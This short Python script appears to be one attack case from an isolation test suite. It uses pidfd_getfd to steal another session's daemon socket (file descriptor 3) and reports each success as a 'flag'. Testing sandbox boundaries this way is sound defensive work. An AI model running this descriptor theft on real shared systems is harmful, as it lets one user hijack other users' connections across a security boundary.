"""Takes the socket on which another session hears the daemon.

group: neighbour
weaken: filter pidns uids
victim: yes
"""

from attack import *

for pid in kernels_of_others():
    taken = syscall(NR["pidfd_getfd"], os.pidfd_open(pid), 3, 0)
    if taken >= 0:
        flag("%d: %s" % (pid, os.readlink("/proc/self/fd/%d" % taken)))
        os.close(taken)
